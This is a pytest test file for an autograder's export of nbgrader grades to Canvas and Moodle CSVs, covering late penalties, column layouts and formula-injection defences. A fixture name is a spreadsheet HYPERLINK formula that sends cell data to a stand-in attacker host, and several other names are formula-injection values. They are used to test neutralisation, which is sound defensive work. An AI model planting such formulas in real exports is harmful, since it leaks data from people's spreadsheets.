"""Grades for an LMS (autograder/pipeline/lms.py): Canvas's and Moodle's import CSV.

A real gradebook, made by real nbgrader on a copy of chapter 1: two learners who
submitted (alice on time with every answer right; bob three hours late with one answer
left as released) and carol who did not; the course's late policy is the plugin of
nbgrader's documentation (``SubMarks``: one point per hour late), set in its
nbgrader_config.py, and each submission carries nbgrader's ``timestamp.txt``. The
exports are checked against the columns each format documents (see lms.py's docstring),
against nbgrader's own CSV export, and for not touching the gradebook.
"""
from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import pytest

from autograder import export
from autograder.pipeline import lms
from course import Course, autograded_points

DUE = "2026-03-01 12:00:00 UTC"
ON_TIME = "2026-03-01 11:30:00 UTC"
LATE = "2026-03-01 15:00:00 UTC"           # 3 h late: SubMarks gives 3 points
# ch01's points, from its source notebook: the autograded cells (what alice, every answer
# right, scores) and those plus the written answer a person grades (points possible).
AUTO = sum(autograded_points("ch01").values())
POSSIBLE = lms._number(sum(autograded_points("ch01", written=True).values()))
LATE_PLUGIN = '''\
from nbgrader.plugins import BasePlugin


class SubMarks(BasePlugin):
    def late_submission_penalty(self, student_id, score, total_seconds_late):
        """Penalty of 1 mark per hour late (nbgrader's documentation, late-plugin)"""
        hours_late = total_seconds_late / 3600
        return round(hours_late, 0)
'''
BOB_FIRST = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
BOB_LAST = "@SUM(1+1)"


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def gradebook_url(root: Path) -> str:
    return "sqlite:///" + str(root / "autograder" / "gradebook.db")


def late_course(root: Path) -> Course:
    """A ch01 course whose nbgrader_config sets the late policy of late.py (SubMarks),
    released, with the assignment's due date in its gradebook."""
    from nbgrader.api import Gradebook
    c = Course(root, ["ch01"])
    (root / "late.py").write_text(LATE_PLUGIN)
    with open(root / "nbgrader_config.py", "a") as fh:
        fh.write("\n# the course's late policy\nc.AssignLatePenalties.plugin_class = 'late.SubMarks'\n")
    c.generate()
    with Gradebook(gradebook_url(root)) as gb:
        gb.update_or_create_assignment("ch01", duedate=DUE)
    return c


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    from nbgrader.api import Gradebook
    root = tmp_path_factory.mktemp("exports")
    c = late_course(root)
    with Gradebook(gradebook_url(root)) as gb:
        gb.update_or_create_student("alice", first_name="Zoë", last_name="O'Brien, Jr.",
                                    email="alice@example.org", lms_user_id="4711")
        gb.update_or_create_student("bob", first_name=BOB_FIRST, last_name=BOB_LAST,
                                    lms_user_id="535fa085f22b")
        gb.update_or_create_student("carol")
    stub = "def rnn_forward(x, h0, Wx, Wh, b):\n    raise NotImplementedError()\n"
    for student, nb, stamp in [("alice", c.filled("ch01"), ON_TIME),
                               ("bob", c.filled("ch01", {"rnn_forward": stub}), LATE)]:
        path = c.submit("ch01", student, nb)
        (path.parent / "timestamp.txt").write_text(stamp + "\n")
    c.autograde("ch01")
    c.scores_ = c.scores("ch01", manual=True)  # the written answer too (0: left as released)
    return c


@pytest.fixture(scope="module")
def grades(course):
    return lms.read_grades(gradebook_url(course.root), "ch01", course.root / "solutions")


@pytest.mark.slow
@pytest.mark.xdist_group("exports")
def test_the_gradebook_holds_what_the_tests_assume(course):
    raw = {s: sum(g.values()) for s, g in course.scores_.items()}
    assert raw["alice"] == AUTO
    assert 3.0 <= raw["bob"] < AUTO


@pytest.mark.slow
@pytest.mark.xdist_group("exports")
def test_canvas_columns_points_and_late_totals(course, grades, tmp_path):
    rows = parse(lms.render(lms.canvas_rows(grades)))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "ch01"]
    # the autograded points and the written answer's, which a person grades
    assert rows[1] == ["Points Possible", "", "", "", "", POSSIBLE]
    assert [r[3] for r in rows[2:]] == ["alice", "bob"]          # carol did not submit
    alice, bob = rows[2:]
    bob_raw = sum(course.scores_["bob"].values())
    assert alice == ["O'Brien, Jr., Zoë", "4711", "", "alice", "", lms._number(AUTO)]
    assert bob[1] == ""               # not a Canvas user id: Canvas reads it with to_i
    assert float(bob[5]) == bob_raw - 3.0
    # the same totals as nbgrader's own CSV export
    from nbgrader.api import Gradebook
    from nbgrader.plugins import CsvExportPlugin
    plugin = CsvExportPlugin()
    plugin.to = str(tmp_path / "grades.csv")
    with Gradebook(lms.read_only_url(gradebook_url(course.root))) as gb:
        plugin.export(gb)
    # (nbgrader writes it unquoted, so bob's comma shifts his names: read from the end)
    theirs = {r[3]: r for r in csv.reader(open(tmp_path / "grades.csv")) if r[0] == "ch01"}
    assert float(theirs["bob"][-3]) == 3.0                   # late_submission_penalty
    assert {r[3]: float(r[5]) for r in rows[2:]} == {
        s: float(theirs[s][-2]) for s in ("alice", "bob")}   # score
    sis = parse(lms.render(lms.canvas_rows(grades, id_column="sis")))
    assert [r[2:4] for r in sis[2:]] == [["alice", ""], ["bob", ""]]


@pytest.mark.slow
@pytest.mark.xdist_group("exports")
def test_per_question_columns_sum_to_the_total(course, grades):
    rows = parse(lms.render(lms.canvas_rows(grades, per_question=True,
                                            title="Chapter 1 (4821)")))
    maxima = course.max_scores("ch01", manual=True)
    order = [gid for gid in maxima]                              # the notebook's order
    assert rows[0] == [*lms.CANVAS_IDENTITY, "Chapter 1 (4821)",
                       *[f"Chapter 1: {gid}" for gid in order]]
    assert rows[1][5:] == [POSSIBLE, *[lms._number(maxima[g]) for g in order]]
    for row in rows[2:]:
        student = row[3]
        parts = [float(x) for x in row[6:]]
        assert parts == [course.scores_[student][g] for g in order]
        penalty = 3.0 if student == "bob" else 0.0
        assert sum(parts) - penalty == pytest.approx(float(row[5]))
    moodle = parse(lms.render(lms.moodle_rows(grades, per_question=True)))
    for row in moodle[1:]:
        penalty = 3.0 if row[0] == "bob" else 0.0
        assert sum(float(x) for x in row[6:-1]) - penalty == pytest.approx(float(row[5]))


@pytest.mark.slow
@pytest.mark.xdist_group("exports")
def test_moodle_columns_and_late_feedback(grades):
    rows = parse(lms.render(lms.moodle_rows(grades)))
    assert rows[0] == ["Student ID", "First name", "Last name", "Email address",
                       "LMS user ID", "ch01", "ch01 (Feedback)"]
    assert [r[0] for r in rows[1:]] == ["alice", "bob"]   # no row Moodle cannot match
    alice, bob = rows[1:]
    assert alice == ["alice", "Zoë", "O'Brien, Jr.", "alice@example.org", "4711",
                     lms._number(AUTO), ""]
    assert bob[3] == "" and bob[4] == "535fa085f22b"
    assert bob[6].startswith(f"Submitted {LATE[:-4]}") and "3.0 h after the due date" in bob[6]
    assert "late penalty 3 point(s)" in bob[6]


@pytest.mark.slow
@pytest.mark.xdist_group("exports")
def test_injection_looking_names_are_neutralised(grades):
    canvas = lms.render(lms.canvas_rows(grades, per_question=True))
    moodle = lms.render(lms.moodle_rows(grades, per_question=True))
    for text in (canvas, moodle):
        rows = parse(text)
        assert all(not cell.startswith(lms._RISKY) for row in rows for cell in row)
        assert text.startswith('"Student')                 # UTF-8, no byte-order mark
    assert parse(canvas)[3][0] == f"'{BOB_LAST}, {BOB_FIRST}"        # "Last, First"
    assert parse(moodle)[2][1:3] == [f"'{BOB_FIRST}", f"'{BOB_LAST}"]


@pytest.mark.slow
@pytest.mark.xdist_group("exports")
def test_exports_never_touch_the_gradebook(course, grades, capsys):
    folder = course.root / "autograder"
    db = folder / "gradebook.db"
    before = hashlib.sha256(db.read_bytes()).hexdigest()
    files = {p.name for p in folder.iterdir()}
    for fmt in lms.FORMATS:
        for extra in ([], ["--per-question"]):
            assert export.main([fmt, "ch01", "--root", str(course.root), *extra]) == 0
    assert hashlib.sha256(db.read_bytes()).hexdigest() == before
    assert {p.name for p in folder.iterdir()} - files <= {"reports"}   # no journal left
    out = folder / "reports" / "ch01"
    assert sorted(p.name for p in out.iterdir()) == [
        "canvas-per-question.csv", "canvas.csv", "moodle-per-question.csv", "moodle.csv"]
    raw = (out / "canvas.csv").read_bytes()
    assert raw.startswith(b'"Student"') and "Zoë" in raw.decode("utf-8")   # no BOM
    err = capsys.readouterr().err
    assert "left out, no submission: carol" in err
    assert "regrade" not in err                        # stored penalties match the policy
    assert export.main(["canvas", "ch09", "--root", str(course.root)]) == 2
    assert "no assignment 'ch09'" in capsys.readouterr().err


@pytest.mark.slow
@pytest.mark.xdist_group("exports")
def test_a_policy_changed_after_grading_is_reported(course, grades):
    from traitlets.config.loader import PyFileConfigLoader
    cfg = PyFileConfigLoader("nbgrader_config.py", str(course.root)).load_config()
    assert lms.policy_warnings(cfg, grades, course.root) == []
    cfg.AssignLatePenalties.plugin_class = "nbgrader.plugins.LateSubmissionPlugin"
    cfg.LateSubmissionPlugin.penalty_method = "zero"
    warnings = lms.policy_warnings(cfg, grades, course.root)
    assert len(warnings) == 1 and warnings[0].startswith("bob: ")
    bob_raw = sum(course.scores_["bob"].values())
    assert f"is 3, the configured policy gives {lms._number(bob_raw)} now" in warnings[0]


# --- without nbgrader: odd names, columns Canvas would drop ------------------------------

def _by_hand(**names) -> lms.Grades:
    learner = lms.Learner("x1", names.get("first", ""), names.get("last", ""), "", "", 2.0,
                          0.0, 2.0, 0.0, "", {("nb", "q1"): 2.0}, (("nb", 2.0, None),))
    return lms.Grades("hw", 4.0, [lms.Part("nb", "q1", 4.0)], [learner], [])


@pytest.mark.parametrize("first, last", [
    ("-2+3", "\tTab"), ("Line\nbreak", 'Quote "q", comma'), ("\rCR", "+1"),
    ("王小明", "Ünïcødé"), ("", "x" * 5000), ("a;=1+2", "@b")])
def test_odd_names_round_trip_safely(first, last):
    grades = _by_hand(first=first, last=last)
    for rows in (lms.canvas_rows(grades, per_question=True), lms.moodle_rows(grades)):
        back = parse(lms.render(rows))
        assert len(back) == len(rows)
        for sent, got in zip(rows, back):
            assert got == [lms.neutralise(c) for c in sent]
            assert all(not c.startswith(lms._RISKY) for c in got)
    assert lms.neutralise("-2+3") == "'-2+3" and lms.neutralise("ok") == "ok"


def test_canvas_refuses_a_header_it_would_not_read_as_an_assignment():
    with pytest.raises(ValueError, match="Final Grade"):
        lms.canvas_rows(_by_hand(), title="Final Grade")
    with pytest.raises(ValueError, match="Section"):
        lms.canvas_rows(_by_hand(), title="Section")


def test_no_gradebook_is_an_error_not_a_new_file(tmp_path, capsys):
    (tmp_path / "nbgrader_config.py").write_text("c = get_config()\n")
    assert export.main(["moodle", "ch01", "--root", str(tmp_path)]) == 2
    assert "no gradebook" in capsys.readouterr().err
    assert not (tmp_path / "autograder").exists()


@pytest.mark.slow
@pytest.mark.xdist_group("exports")
def test_the_pipeline_applies_a_course_late_plugin_from_any_folder(tmp_path):
    """The course's late policy lives in its own late.py: grading with --root from another
    folder (here the repository) still imports it, and the late learner keeps the
    penalised score instead of a grader failure."""
    import json
    import subprocess
    import sys
    from nbgrader.api import Gradebook

    from course import REPO, nbgrader_env
    root = tmp_path / "course"
    c = late_course(root)
    submissions = tmp_path / "in" / "bob" / "ch01"
    submissions.mkdir(parents=True)
    import nbformat
    nbformat.write(c.filled("ch01"), submissions / "ch01.ipynb")
    (submissions / "timestamp.txt").write_text(LATE + "\n")
    proc = subprocess.run([sys.executable, "-m", "autograder.grade", "ch01",
                           str(tmp_path / "in"), "--root", str(root), "--jobs", "1",
                           "--no-feedback", "-q"], cwd=REPO, env=nbgrader_env(),
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-3000:]
    verdict = json.loads((root / "autograder" / "reports" / "ch01" / "verdicts" /
                          "bob.json").read_text())
    assert verdict["status"] == "graded", verdict
    with Gradebook(gradebook_url(root)) as gb:
        submission = gb.find_submission("ch01", "bob")
        assert submission.late_submission_penalty == 3.0
        assert submission.score > 3.0
